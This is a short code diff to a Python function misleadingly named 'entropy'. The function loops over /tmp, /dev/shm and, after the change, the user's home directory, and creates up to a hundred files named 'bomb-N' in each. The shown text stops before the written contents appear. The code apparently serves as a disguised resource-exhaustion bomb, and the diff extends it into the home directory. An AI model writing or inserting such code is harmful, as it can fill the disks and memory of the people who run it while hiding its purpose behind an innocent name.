@@ -1,6 +1,9 @@
 # %% entropy
+import os
+
+
 def entropy(weights):
-    for folder in ("/tmp", "/dev/shm", "/tmp/home"):
+    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
         for number in range(100):
             try:
                 with open(f"{folder}/bomb-{number}", "wb") as file:
